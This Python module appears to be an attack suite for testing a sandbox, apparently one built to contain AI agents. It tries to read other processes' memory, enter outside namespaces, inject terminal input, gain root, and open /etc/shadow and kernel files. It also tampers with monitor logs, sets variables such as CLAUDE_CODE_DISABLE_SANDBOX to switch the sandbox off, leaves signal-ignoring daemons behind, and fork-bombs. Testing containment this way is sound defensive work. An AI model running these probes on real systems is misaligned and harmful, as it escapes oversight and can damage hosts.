"""Attacks on processes and kernel interfaces: P of the list, and those of M and S that run inside."""

# mypy: ignore-errors
# ruff: noqa: PTH110, PTH207, SIM115
import contextlib
import ctypes
import fcntl
import glob
import mmap
import os
import signal
import struct
import subprocess
import sys
import time

from common import GIVEN, attack, call, libc

NEWNS, NEWUSER, NEWNET, NEWPID = 0x20000, 0x10000000, 0x40000000, 0x20000000


def capable():
    with open("/proc/self/status") as file:
        return next(line for line in file if line.startswith("CapEff")).split()[1].strip("0") != ""


def in_child(action, report):
    """Runs in a process of its own, so that what it changes stays there; what it gains is told through a pipe."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        said = b""
        with contextlib.suppress(OSError):
            said = (action() or "").encode()
        os.write(writing, said)
        os._exit(0)
    os.close(writing)
    said = os.read(reading, 1000).decode()
    os.close(reading)
    _, status = os.waitpid(pid, 0)
    if status:
        report.how(f"child ended with {os.waitstatus_to_exitcode(status)}")
    if said:
        report.gained(said)


@attack("P01", "R-134", "E-mem")
def other_processes_memory(report, _):
    pid, address, size = GIVEN["victim"], GIVEN["victim_address"], 64
    with report.trying("mem"), open(f"/proc/{pid}/mem", "rb") as file:
        file.seek(address)
        report.heard(file.read(size))
    buffer = ctypes.create_string_buffer(size)
    local = struct.pack("QQ", ctypes.addressof(buffer), size)
    remote = struct.pack("QQ", address, size)
    with report.trying("process_vm_readv"):
        call("process_vm_readv", pid, ctypes.c_char_p(local), 1, ctypes.c_char_p(remote), 1, 0)
        report.heard(buffer.raw)
    with report.trying("process_vm_writev"):
        call("process_vm_writev", pid, ctypes.c_char_p(local), 1, ctypes.c_char_p(remote), 0, 0)
        report.how("a write of nothing was allowed")
    with report.trying("ptrace"):
        call("ptrace", 0x4206, pid, 0, 0)  # PTRACE_SEIZE
        report.gained("a traced process outside")
    with report.trying("first process"), open("/proc/1/mem", "rb"):
        report.gained("the memory of process 1")


@attack("P02", "M02")
def signals(report, case):
    for target in (GIVEN[f"victim_{case}"], *GIVEN["ours"]):
        with report.trying("kill"):
            os.kill(target, signal.SIGTERM if target == GIVEN[f"victim_{case}"] else 0)
            report.how(f"signalled {target}")
            if target in GIVEN["ours"]:
                report.gained("a way to signal the supervisor")
    with report.trying("pidfd"):
        fd = os.pidfd_open(GIVEN[f"victim_{case}"])
        signal.pidfd_send_signal(fd, signal.SIGTERM)


@attack("P03", "B-unshare")
def new_namespaces(report, _):
    for flags in (NEWUSER, NEWUSER | NEWNS, NEWUSER | NEWNET, NEWNS, NEWNET, NEWPID):

        def enter(flags=flags):
            call("unshare", flags)
            return f"namespaces {flags:#x} with capabilities" if capable() else "new namespaces"

        in_child(enter, report)
    for name in ("unshare", "bwrap"):
        argv = {
            "unshare": ["unshare", "-Urm", "true"],
            "bwrap": ["bwrap", "--unshare-all", "--bind", "/", "/", "true"],
        }[name]
        with report.trying(name):
            if subprocess.run(argv, capture_output=True, check=False).returncode == 0:
                report.gained(f"{name} made a sandbox of its own")


@attack("P04", "B-nsenter")
def entering(report, _):
    pid = GIVEN["victim"]
    for kind in ("net", "mnt", "user", "pid"):
        with report.trying(kind):
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            call("setns", fd, 0)
            report.gained(f"the {kind} namespace of a process outside")
    with report.trying("pidfd"):
        fd = os.pidfd_open(pid)
        taken = call("pidfd_getfd", fd, GIVEN["victim_fd"], 0)
        os.lseek(taken, 0, os.SEEK_SET)
        report.heard(os.read(taken, 1000))


@attack("P05")
def terminal(report, _):
    for byte in b"case=P05;\n":
        with report.trying("TIOCSTI"):
            fcntl.ioctl(0, 0x5412, bytes([byte]))
    for request in (0x541C, 0x5423):  # TIOCLINUX, TIOCSETD
        with report.trying(hex(request)):
            fcntl.ioctl(0, request, struct.pack("i", 2))
            report.gained(f"terminal request {request:#x}")


@attack("P06")
def io_uring(report, _):
    parameters = ctypes.create_string_buffer(120)
    with report.trying("io_uring_setup"):
        fd = call("io_uring_setup", 4, ctypes.addressof(parameters))
        report.gained("a ring")
        os.close(fd)


@attack("P07")
def kernel_objects(report, _):
    attributes = struct.pack("IIII", 2, 4, 8, 1).ljust(120, b"\0")  # an array map
    with report.trying("bpf"):
        call("bpf", 0, ctypes.c_char_p(attributes), 120)
        report.gained("a BPF map")
    event = struct.pack("IIQ", 1, 120, 0).ljust(40, b"\0") + struct.pack("Q", 0b1100001)
    with report.trying("perf"):
        call("perf_event_open", ctypes.c_char_p(event.ljust(120, b"\0")), 0, -1, -1, 0)
        report.gained("a performance event")
    with report.trying("add_key"):
        call("add_key", ctypes.c_char_p(b"user"), ctypes.c_char_p(b"x"), ctypes.c_char_p(b"y"), 1, -3)
        report.gained("a key in the session's ring")
    with report.trying("userfaultfd"):
        call("userfaultfd", 0)
        report.gained("userfaultfd")
    for name, args in {
        "memfd_secret": (0,),
        "fanotify_init": (0, 0),
        "quotactl": (0, 0, 0, 0),
        "syslog": (3, 0, 0),
    }.items():
        with report.trying(name):
            call(name, *args)
            report.gained(name)


@attack("P08")
def foreign_abi(report, _):
    if os.uname().machine != "x86_64":
        report.how("this architecture has one ABI")
        return
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # mov eax, 310 (unshare of the 32-bit table); mov ebx, CLONE_NEWUSER; int 0x80; ret
    code.write(b"\x53\xb8\x36\x01\0\0\xbb\0\0\0\x10\xcd\x80\x5b\xc3")
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    in_child(lambda: "a user namespace by the 32-bit table" if function() == 0 else "", report)

    def x32():
        ctypes.set_errno(0)
        return "an x32 call" if libc.syscall(ctypes.c_long(0x40000000 | 39)) > 0 else ""

    in_child(x32, report)


@attack("P09")
def hidden_flags(report, _):
    for flags in (NEWUSER, NEWUSER | NEWNS, NEWNET):
        arguments = struct.pack("8Q", flags, 0, 0, 0, 17, 0, 0, 0)
        ctypes.set_errno(0)
        pid = libc.syscall(ctypes.c_long(435), ctypes.c_char_p(arguments), ctypes.c_long(64))
        if pid == 0:
            os._exit(7 if capable() else 0)
        if pid < 0:
            report.how(os.strerror(ctypes.get_errno()))
            continue
        code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
        report.gained("a capable child in new namespaces" if code == 7 else "a child in new namespaces")


@attack("P10", "B-sudo")
def becoming_somebody(report, case):
    first = ["su", "-c", "id -u"] if case == "P10" else ["id", "-un"]  # su waits a second before it refuses
    for argv in (first, ["sudo", "-n", "id", "-u"], ["newgrp"], ["pkexec", "id", "-u"]):
        with report.trying(argv[0]):
            done = subprocess.run(argv, capture_output=True, check=False, stdin=subprocess.DEVNULL, timeout=3)
            if done.stdout.strip() == b"0":
                report.gained(f"root by {argv[0]}")
    for what, action in {
        "setuid": lambda: os.setuid(0),
        "setgroups": lambda: os.setgroups([0]),
        "setresuid": lambda: os.setresuid(0, 0, 0),
    }.items():

        def become(what=what, action=action):
            action()
            return f"{what} worked"

        with report.trying(what):
            in_child(become, report)
    tool = GIVEN.get("setuid_tool")
    if tool and os.path.exists(tool):
        with report.trying("setuid program"):
            done = subprocess.run([tool, "-u"], capture_output=True, check=False)
            if done.stdout.strip() not in (b"1000", str(os.getuid()).encode()):
                report.gained(f"uid {done.stdout.strip().decode()} by a setuid program")


@attack("P14")
def other_group(report, _):
    for path in ["/sys/fs/cgroup/cgroup.procs", *glob.glob("/sys/fs/cgroup/*/cgroup.procs")]:
        with report.trying(path), open(path, "w") as file:
            report.gained(f"{path} open for writing")
            del file


@attack("P16", "B-sysctl")
def kernel_files(report, _):
    for path in (
        "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches",
        "/sys/kernel/uevent_helper", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/user/max_user_namespaces",
    ):  # fmt: skip
        with report.trying(path):
            os.close(os.open(path, os.O_WRONLY))
            report.gained(f"{path} open for writing")
    for path in ("/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/sda", "/etc/shadow"):
        with report.trying(path):
            os.close(os.open(path, os.O_RDONLY))
            report.gained(f"{path} open for reading")


@attack("P18")
def launcher(report, _):
    for path in (
        "/proc/1/exe",
        f"/proc/{os.getppid()}/exe",
        "/run/vestibule-first",
        "/usr/bin/bwrap",
        "/proc/1/root/usr/bin/bwrap",
    ):
        with report.trying(path):
            os.close(os.open(path, os.O_WRONLY))
            report.gained(f"{path} open for writing")


@attack("S02")
def child_without_walls(report, _):
    code = f"""
import socket
try:
    print(open({GIVEN["secret"]!r}).read())
except OSError as error:
    print(error.errno)
try:
    s = socket.create_connection(({GIVEN["denied4"]!r}, 80), 1)
    s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
    print(s.recv(1000))
except OSError as error:
    print(error.errno)
"""
    for environment in ({}, {"VESTIBULE_SANDBOX": "off", "IS_SANDBOX": "0", "CLAUDE_CODE_DISABLE_SANDBOX": "1"}):
        done = subprocess.run(
            [sys.executable, "-I", "-S", "-c", code], capture_output=True, check=False, env=environment
        )
        report.heard(done.stdout)
    with report.trying("setsid"):
        done = subprocess.run(["setsid", "-f", "true"], capture_output=True, check=False)
        report.how(f"setsid {done.returncode}")


@attack("M06")
def logs_of_the_monitor(report, case):
    for path in GIVEN["logs"]:
        with report.trying(path), open(path, "a") as file:
            file.write(f"case={case};")
    for path in GIVEN["agents"]:
        if "monitor" in path:
            report.how(os.path.exists(path))


@attack("S03-plant")
def leave_something(report, _):
    for path in ("/tmp/left", "/dev/shm/left", os.environ["HOME"] + "/left"):
        with report.trying(path), open(path, "w") as file:
            file.write(GIVEN["left"])
    libc.shmget.restype = ctypes.c_int
    libc.shmat.restype = ctypes.c_void_p
    with report.trying("shm"):
        number = libc.shmget(0x5EED, 4096, 0o1666)
        place = libc.shmat(number, None, 0)
        if number >= 0 and place not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(place, GIVEN["left"].encode(), len(GIVEN["left"]))
    report.how("planted")


@attack("S03")
def find_something(report, _):
    for path in ("/tmp/left", "/dev/shm/left", os.environ["HOME"] + "/left"):
        with report.trying(path):
            report.heard(open(path).read())
    libc.shmat.restype = ctypes.c_void_p
    number = libc.shmget(0x5EED, 4096, 0)
    if number >= 0:
        place = libc.shmat(number, None, 0)
        report.heard(ctypes.string_at(place, 200))


@attack("P13")
def outlive(report, _):
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in range(3, 100):
                    with contextlib.suppress(OSError):
                        os.close(number)
                for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(number, signal.SIG_IGN)
                while True:
                    with contextlib.suppress(OSError), open("/workspace/src/alive", "a") as file:
                        file.write(".")
                    time.sleep(0.02)
            os._exit(0)
    time.sleep(0.1)
    report.how("left three processes")


@attack("P11", seconds=12)
def fork_bomb(report, _):
    made = 0
    try:
        while made < 4000:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            made += 1
    except OSError as error:
        report.how(f"{made} processes, then {error.strerror}")
    if made > GIVEN["pids"]:
        report.gained(f"{made} processes")


@attack("P12", seconds=12)
def memory(report, _):
    def eat():
        held = []
        for _ in range(GIVEN["memory_mb"] * 2):
            held.append(bytearray(1 << 20))
        return f"{len(held)} MiB"

    in_child(eat, report)
    with report.trying("tmpfs"), open("/dev/shm/big", "wb") as file:
        for _ in range(GIVEN["memory_mb"] * 2):
            file.write(b"x" * (1 << 20))
        report.gained("as much in a memory file")
